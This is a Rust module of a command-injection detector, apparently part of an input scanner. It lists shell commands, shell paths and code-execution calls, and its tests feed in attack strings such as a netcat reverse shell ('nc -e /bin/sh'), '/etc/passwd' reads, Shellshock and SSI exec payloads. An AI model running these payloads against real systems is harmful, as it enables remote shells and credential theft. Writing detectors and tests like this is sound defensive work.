//! Command injection: finds places where a shell would start a command (the start of the
//! value, after `;`, `|`, `&`, a newline, inside `` `...` `` or `$(...)`) and checks whether
//! what stands there is a command, on the command-line view where quoting tricks are undone.

use std::sync::LazyLock;

use crate::View;
use crate::literals::List;
use crate::rules;
use crate::shape::Shape;
use crate::{Hits, Patterns, Words};

static SHELL_PATH: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(SHELL_PATHS));
static CODE_CALL: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(CODE_CALLS));
static STRONG: LazyLock<Words> = LazyLock::new(|| Words::new(STRONG_COMMANDS));
static AMBIGUOUS: LazyLock<Words> = LazyLock::new(|| Words::new(AMBIGUOUS_COMMANDS));
static RECON: LazyLock<Words> = LazyLock::new(|| Words::new(RECON_COMMANDS));

/// Commands an attacker runs to probe, fetch, or open a shell: named after a separator they
/// are an attack whatever follows.
const STRONG_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "id",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "lua",
    "ping",
    "nslookup",
    "cat",
    "ls",
    "echo",
    "sleep",
    "systeminfo",
    "tasklist",
    "taskkill",
    "telnet",
    "socat",
    "nmap",
    "passwd",
    "sudo",
    "su",
    "chmod",
    "chown",
    "rm",
    "mkfifo",
    "crontab",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "wmic",
    "net",
    "netsh",
    "reg",
    "dir",
    "type",
    "ver",
    "hostname",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "base64",
    "xxd",
    "printenv",
    "env",
    "uptime",
    "pwd",
    "ps",
    "kill",
    "killall",
    "dig",
    "host",
    "traceroute",
    "tracert",
    "arp",
    "route",
    "lsof",
    "useradd",
    "usermod",
    "adduser",
    "net1",
    "nohup",
    "timeout",
    "gcc",
    "cc",
    "wc",
    "head",
    "tail",
    "more",
    "less",
    "grep",
    "egrep",
    "find",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "sort",
    "uniq",
    "cut",
    "tr",
    "tee",
    "dd",
    "od",
    "strings",
    "touch",
    "cp",
    "mv",
    "mkdir",
    "rmdir",
    "ln",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "openssl",
    "java",
    "node",
    "exec",
    "eval",
    "expr",
    "shutdown",
    "reboot",
    "halt",
    "who",
    "w",
    "last",
    "history",
    "set",
    "export",
    "unset",
    "alias",
    "start",
    "del",
    "copy",
    "move",
    "ren",
    "attrib",
    "icacls",
    "cacls",
    "schtasks",
    "sc",
    "query",
    "qwinsta",
    "whereis",
    "which",
    "locate",
    "getent",
    "fsutil",
    "vssadmin",
    "diskpart",
    "format",
    "print",
    "chcp",
    "mail",
    "sendmail",
    "rcp",
    "rsh",
    "rlogin",
    "finger",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "file",
    "stat",
    "readlink",
    "time",
    "true",
    "false",
    "test",
    "cd",
    "ldd",
    "strace",
    "ltrace",
    "gdb",
    "busybox",
    "php-cgi",
    "shred",
    "wall",
    "write",
    "logger",
    "systemctl",
    "service",
    "iptables",
    "mount",
    "umount",
    "fdisk",
    "lsblk",
    "df",
    "du",
    "free",
    "top",
    "vmstat",
    "dmesg",
    "sysctl",
    "modprobe",
    "insmod",
    "lsmod",
    "docker",
    "kubectl",
    "git",
    "svn",
    "pip",
    "npm",
    "apt",
    "yum",
    "dnf",
    "apk",
    "pkg",
    "dpkg",
    "rpm",
];

/// Common English words that are also commands: after a separator they need an argument that
/// looks like one (an option or a path) before they count.
const AMBIGUOUS_COMMANDS: &[&str] = &[
    "set", "start", "type", "more", "less", "find", "head", "tail", "host", "time", "test", "file",
    "last", "who", "w", "format", "move", "copy", "print", "write", "mail", "free", "top", "sort",
    "cut", "query", "true", "false", "wall", "service", "route", "sc", "tr", "cd", "su", "dir",
    "del", "ren", "net", "reg", "ver", "env", "kill", "touch", "git", "node", "echo", "cat", "id",
    "ps", "sh", "cc", "dd", "od", "ln", "mv", "cp", "rm", "df", "du", "ls", "nc", "pip", "tee",
    "sed", "awk", "apt", "pkg", "zip", "tar", "java", "exec", "eval", "expr", "sleep", "ping",
];

/// Interpreters and tools whose path alone gives the attack away.
pub(crate) const SHELL_PATHS: &[&str] = &[
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "cmd.exe",
    "powershell.exe",
    "/dev/tcp/",
    "/dev/udp/",
    "system32/cmd",
    "%comspec%",
    "%systemroot%",
    "$env:",
];

/// Commands that only probe the machine: named alone as a whole value, they are an attack.
const RECON_COMMANDS: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "uname",
    "netstat",
    "tasklist",
    "nslookup",
    "sysinfo",
    "getuid",
    "hashdump",
    "phpinfo()",
    "whoami /all",
    "ipconfig /all",
    "uname -a",
    "cat /etc/passwd",
    "id;",
    "ls -la",
    "ls -al",
    "ls -l",
];

/// Subcommands that turn a Windows word (`net`, `reg`, `sc`, `netsh`) into administration.
const SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "users",
            "view",
            "localgroup",
            "group",
            "share",
            "use",
            "start",
            "stop",
            "session",
            "accounts",
            "config",
        ],
    ),
    ("net1", &["user", "localgroup", "view"]),
    (
        "reg",
        &["add", "query", "delete", "save", "export", "import", "load"],
    ),
    (
        "sc",
        &["query", "create", "config", "start", "stop", "delete", "qc"],
    ),
    (
        "netsh",
        &[
            "firewall",
            "advfirewall",
            "interface",
            "wlan",
            "http",
            "winsock",
        ],
    ),
    (
        "wmic",
        &[
            "process",
            "useraccount",
            "os",
            "qfe",
            "service",
            "product",
            "nicconfig",
        ],
    ),
];

/// `base` is the decoded view (for code such as `system('id')`, whose quotes matter),
/// `shell` the command-line view with quoting tricks undone.
pub(crate) fn scan(base: View<'_>, shell: View<'_>, hits: &mut Hits) {
    if base.shape.any(const { Shape::bytes(b"(.") }) && base.found.has(List::CodeCall) {
        code_execution_calls(base.text, hits);
    }
    let (view, shape) = (shell.text, shell.shape);
    if shape.within(Shape::WORD) {
        return;
    }
    let bytes = view.as_bytes();
    // Shellshock: a function definition in a header or variable.
    if shape.has(b'(')
        && shape.has(b'{')
        && let Some(pos) = crate::find(bytes, b"() {")
    {
        hits.add(&rules::CMDI_SHELLSHOCK, view, pos);
    }
    if shape.has(b'<')
        && let Some(pos) = crate::find(bytes, b"<!--#")
    {
        let directive = &view[pos + 5..];
        if [
            "exec", "include", "echo", "config", "printenv", "fsize", "flastmod", "set",
        ]
        .iter()
        .any(|d| directive.starts_with(d))
        {
            hits.add(&rules::CMDI_SSI, view, pos);
        }
    }
    // `/bin/` must be followed by a program name.
    if shape.any(const { Shape::bytes(b"/.%$") })
        && shell.found.has(List::ShellPath)
        && let Some((_, pos)) = SHELL_PATH.find_iter(bytes).find(|(path, pos)| {
            !path.ends_with('/')
                || bytes
                    .get(pos + path.len())
                    .is_some_and(u8::is_ascii_alphabetic)
        })
    {
        hits.add(&rules::CMDI_SHELL_PATH, view, pos);
    }
    let trimmed = if shape.any(Shape::MAY_BE_WHITESPACE) {
        crate::trim(view)
    } else {
        view
    };
    if RECON.contains(trimmed) {
        hits.add(&rules::CMDI_COMMAND_LINE, view, 0);
        return;
    }

    // Without a byte that can start a separator there, no second command can start.
    let search = SeparatorSearch::for_shape(shape);
    let mut i = 0;
    let mut at_start = true;
    while i <= bytes.len() {
        let (position, substitution) = if at_start {
            (Some(0), false)
        } else {
            match next_separator(bytes, i, &search) {
                Some((sep_end, subst)) => (Some(sep_end), subst),
                None => (None, false),
            }
        };
        let Some(position) = position else { break };
        // Where the command word would start; a run of spaces and line breaks is skipped
        // once, not once per separator in it.
        let word_start = command_start(bytes, position);
        if let Some((name, word_end)) = command_at(view, word_start) {
            let args = &view[word_end..];
            let rule_hit = if substitution {
                // `` `id` ``, `$(id)`: shell syntax around a command name is unambiguous.
                args.trim_start().is_empty()
                    || args.starts_with([' ', '\t', '`', ')', ';', '|', '&'])
            } else if has_admin_subcommand(name, args) {
                true
            } else if at_start {
                starts_like_command_line(name, args)
            } else if AMBIGUOUS.contains(name) {
                argument_looks_shell(args)
                    || matches!(name, "sleep" | "ping") && numeric_or_host_argument(args)
                    || args.trim_start().is_empty() && !name.is_empty() && substitution
                    || (args.trim().is_empty() || args.starts_with([';', '|', '&', '\n', '`', ')']))
                        && matches!(
                            name,
                            "id" | "ls"
                                | "ps"
                                | "env"
                                | "set"
                                | "dir"
                                | "ver"
                                | "w"
                                | "who"
                                | "cd"
                                | "echo"
                                | "sh"
                                | "cat"
                                | "pwd"
                        )
            } else {
                true
            };
            if rule_hit {
                let rule = if substitution {
                    &rules::CMDI_SUBSTITUTION
                } else if at_start {
                    &rules::CMDI_COMMAND_LINE
                } else {
                    &rules::CMDI_CHAINED
                };
                hits.add(rule, view, position);
                return;
            }
        }
        if matches!(search, SeparatorSearch::Nothing) {
            break;
        }
        if at_start {
            at_start = false;
            i = 0;
        } else {
            i = word_start.max(i + 1);
        }
    }
    // A lone command name as the whole value.
    if STRONG.contains(trimmed) && !AMBIGUOUS.contains(trimmed) {
        hits.add(&rules::CMDI_BARE_COMMAND, view, 0);
    }
}

/// The bytes that can start a separator in `next_separator`.
const SEPARATOR_STARTS: [u8; 9] = *b";\n\r|&`$({";

/// [`SEPARATOR_STARTS`] as a table.
static SEPARATOR_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let bytes = SEPARATOR_STARTS;
    let mut i = 0;
    while i < bytes.len() {
        table[bytes[i] as usize] = true;
        i += 1;
    }
    table
};

/// How [`next_separator`] finds the bytes that may start a separator in one value: with
/// `memchr` when the value holds at most three kinds of them, else with [`SEPARATOR_BYTES`].
/// `$` starts one only before `(`, and `(` or `{` only after `<` or `>`: a value without
/// those neighbours has no such separator, and they are not searched for.
enum SeparatorSearch {
    Nothing,
    One(u8),
    Two(u8, u8),
    Three(u8, u8, u8),
    Table,
}

impl SeparatorSearch {
    fn for_shape(shape: Shape) -> Self {
        if !shape.any(const { Shape::bytes(&SEPARATOR_STARTS) }) {
            return SeparatorSearch::Nothing;
        }
        let mut present = [0u8; 3];
        let mut kinds = 0;
        for b in SEPARATOR_STARTS {
            let possible = match b {
                b'$' => shape.has(b'('),
                b'(' | b'{' => shape.any(const { Shape::bytes(b"<>") }),
                _ => true,
            };
            if possible && shape.has(b) {
                if kinds == present.len() {
                    return SeparatorSearch::Table;
                }
                present[kinds] = b;
                kinds += 1;
            }
        }
        match (kinds, present) {
            (0, _) => SeparatorSearch::Nothing,
            (1, [a, ..]) => SeparatorSearch::One(a),
            (2, [a, b, _]) => SeparatorSearch::Two(a, b),
            (_, [a, b, c]) => SeparatorSearch::Three(a, b, c),
        }
    }

    fn find(&self, bytes: &[u8]) -> Option<usize> {
        match *self {
            SeparatorSearch::Nothing => None,
            SeparatorSearch::One(a) => memchr::memchr(a, bytes),
            SeparatorSearch::Two(a, b) => memchr::memchr2(a, b, bytes),
            SeparatorSearch::Three(a, b, c) => memchr::memchr3(a, b, c, bytes),
            SeparatorSearch::Table => bytes.iter().position(|&b| SEPARATOR_BYTES[usize::from(b)]),
        }
    }
}

/// The next place after `from` where a shell starts a new command, and whether it is a
/// command substitution.
fn next_separator(bytes: &[u8], from: usize, search: &SeparatorSearch) -> Option<(usize, bool)> {
    let mut i = from;
    while let Some(off) = search.find(bytes.get(i..)?) {
        let at = i + off;
        match bytes[at] {
            b';' | b'\n' | b'\r' => return Some((at + 1, false)),
            b'|' | b'&' => {
                let mut j = at + 1;
                if bytes.get(j) == Some(&bytes[at]) {
                    j += 1;
                }
                return Some((j, false));
            }
            b'`' => return Some((at + 1, true)),
            b'$' if bytes.get(at + 1) == Some(&b'(') => return Some((at + 2, true)),
            b'(' | b'{' if at > 0 && matches!(bytes[at - 1], b'<' | b'>') => {
                return Some((at + 1, true));
            }
            _ => i = at + 1,
        }
    }
    None
}

/// Where a command word after `at` starts: after spaces, `(`, `{`, `!` and `@`.
fn command_start(bytes: &[u8], at: usize) -> usize {
    let mut i = at;
    while i < bytes.len()
        && (bytes[i].is_ascii_whitespace() || matches!(bytes[i], b'(' | b'{' | b'!' | b'@'))
    {
        i += 1;
    }
    i
}

/// The bytes of a command word: letters, digits and those of paths and drive names.
static COMMAND_WORD_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] =
            c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b':' | b'\\');
        b += 1;
    }
    table
};

/// The command word starting at `start` (see [`command_start`]), by its base name.
fn command_at(view: &str, start: usize) -> Option<(&str, usize)> {
    let bytes = view.as_bytes();
    // A comma ends the word, as brace expansion splits `{cat,/etc/passwd}` there.
    let i = start
        + bytes
            .get(start..)?
            .iter()
            .position(|&b| !COMMAND_WORD_BYTES[usize::from(b)])
            .unwrap_or(bytes.len() - start);
    if i == start {
        return None;
    }
    let word = &view[start..i];
    // The word's bytes are ASCII, so every cut is a character boundary.
    let base = match word.bytes().rposition(|b| b == b'/' || b == b'\\') {
        Some(at) => &word[at + 1..],
        None => word,
    };
    let base = base.strip_suffix(".exe").unwrap_or(base);
    let name = STRONG.get(base)?;
    // A word with a path in front must be an absolute path or a plain name.
    if word.len() != base.len()
        && !(word.starts_with('/') || word.contains(":\\") || word.starts_with("./"))
        && !word.ends_with(".exe")
    {
        return None;
    }
    Some((name, i))
}

fn has_admin_subcommand(name: &str, args: &str) -> bool {
    let Some((_, subs)) = SUBCOMMANDS.iter().find(|(n, _)| *n == name) else {
        return false;
    };
    args.starts_with(char::is_whitespace)
        && args
            .split_ascii_whitespace()
            .next()
            .is_some_and(|a| subs.contains(&a))
}

/// An argument a shell command takes: an option (`-la`, `/all` on Windows), a path, a
/// redirection or pipe, a variable.
fn argument_looks_shell(args: &str) -> bool {
    let Some(first) = args.split_ascii_whitespace().next() else {
        return false;
    };
    if !args.starts_with(|c: char| c.is_ascii_whitespace() || c == ',')
        && !args.starts_with(['>', '<', '|'])
    {
        return false;
    }
    // `{cat,/etc/passwd}`: brace expansion separates with commas.
    let first = first.trim_start_matches(',');
    let Some(&lead) = first.as_bytes().first() else {
        return false;
    };
    let b = first.as_bytes();
    match lead {
        b'-' => b.len() > 1 && b[1].is_ascii_alphanumeric(),
        b'/' => b.len() > 1 && (b[1].is_ascii_alphanumeric() || b[1] == b'/'),
        b'.' | b'~' | b'$' | b'%' | b'>' | b'<' | b'|' | b'\\' => true,
        _ => {
            first.len() > 2
                && first.as_bytes()[1] == b':'
                && matches!(first.as_bytes()[2], b'\\' | b'/')
        }
    }
}

/// `sleep 5`, `ping 127.0.0.1`: the argument the timing and probing commands take.
fn numeric_or_host_argument(args: &str) -> bool {
    args.starts_with(char::is_whitespace)
        && args
            .split_ascii_whitespace()
            .next()
            .is_some_and(|a| a.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
}

/// A whole value that reads as a command line: a command, then an option or path, or a
/// fetcher and a URL.
fn starts_like_command_line(name: &str, args: &str) -> bool {
    let first_arg = args.split_ascii_whitespace().next().unwrap_or("");
    if matches!(
        name,
        "curl" | "wget" | "nc" | "ncat" | "tftp" | "ftp" | "telnet" | "lynx"
    ) && args.starts_with(' ')
        && (first_arg.starts_with("http://")
            || first_arg.starts_with("https://")
            || first_arg.starts_with("ftp://")
            || first_arg.split('.').count() == 4)
    {
        return true;
    }
    if name == "sleep"
        && numeric_or_host_argument(args)
        && args.split_ascii_whitespace().count() == 1
    {
        return true;
    }
    argument_looks_shell(args)
        && !matches!(
            name,
            "w" | "who"
                | "set"
                | "time"
                | "test"
                | "true"
                | "false"
                | "more"
                | "less"
                | "top"
                | "free"
                | "start"
                | "print"
                | "write"
        )
}

/// Calls that run a command or code.
pub(crate) const CODE_CALLS: &[&str] = &[
    "system(",
    "exec(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime().exec",
    "child_process",
    "execsync(",
    "spawnsync(",
    "__import__(",
    "assert(",
    "create_function(",
    "processbuilder(",
    "phpinfo(",
    "phpversion(",
    "<?php",
    "<?=",
    "eval(",
    "file_get_contents(",
    "include(",
    "require(",
    "fopen(",
    "readfile(",
];

/// `system('id')`, `exec("ls")`, `passthru(...)`: code that runs a command.
fn code_execution_calls(view: &str, hits: &mut Hits) {
    let bytes = view.as_bytes();
    for (call, pos) in CODE_CALL.find_iter(bytes) {
        // A call with an argument, not prose like "the system (ours) ...".
        let before_ok = pos == 0
            || !bytes[pos - 1].is_ascii_alphanumeric() && bytes[pos - 1] != b'_'
            || call.contains('.');
        let arg = &view[pos + call.len()..];
        let no_argument_call = matches!(call, "phpinfo(" | "phpversion(") && arg.starts_with(')');
        let code_tag = call.starts_with('<');
        if before_ok
            && (arg.trim_start().starts_with(['\'', '"', '$', '`'])
                || call.contains('.')
                || no_argument_call)
            || code_tag
        {
            hits.add(&rules::CMDI_CODE_EXEC, view, pos);
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{SeparatorSearch, next_separator};
    use crate::shape::Shape;
    use crate::test_support::families;

    proptest::proptest! {
        // The byte table is every byte that can start a separator: a search narrowed to what
        // the value holds must stop at the same places.
        #[test]
        fn separators_are_found_where_the_byte_table_finds_them(
            text in "[a-z ;|&`$(){}<>\n\r]{0,24}"
        ) {
            let bytes = text.as_bytes();
            let search = SeparatorSearch::for_shape(Shape::of(&text));
            for from in 0..=bytes.len() + 1 {
                proptest::prop_assert_eq!(
                    next_separator(bytes, from, &search),
                    next_separator(bytes, from, &SeparatorSearch::Table)
                );
            }
        }
    }

    fn cmdi(input: &str) -> bool {
        families(input, 1).contains(&"cmdi")
    }

    #[test]
    fn command_injections_are_found() {
        for attack in [
            "; cat /etc/passwd",
            "| whoami",
            "127.0.0.1 && id",
            "x || ping -c 10 127.0.0.1",
            "`id`",
            "$(whoami)",
            "a;w'h'o'am'i",
            "a|who^ami",
            ";cat${IFS}/etc/passwd",
            "() { :;}; /bin/bash -c 'id'",
            "<!--#exec cmd=\"ls\"-->",
            "& ping -n 5 127.0.0.1 &",
            "| type C:\\Windows\\win.ini",
            "uname -a",
            "nc -e /bin/sh 10.0.0.1 4444",
            "system('id');",
            "%0Aid",
            "{cat,/etc/passwd}",
        ] {
            assert!(cmdi(attack), "missed: {attack}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for benign in [
            "Tom & Jerry",
            "cat & dog",
            "R&D; more details later",
            "fish | chips",
            "set the table",
            "who are you?",
            "find a doctor; type your name",
            "id",
            "the system (ours) works",
            "5 - 3 = 2",
            "echo",
            "time; sleep well",
        ] {
            assert!(!cmdi(benign), "false positive: {benign}");
        }
    }
}
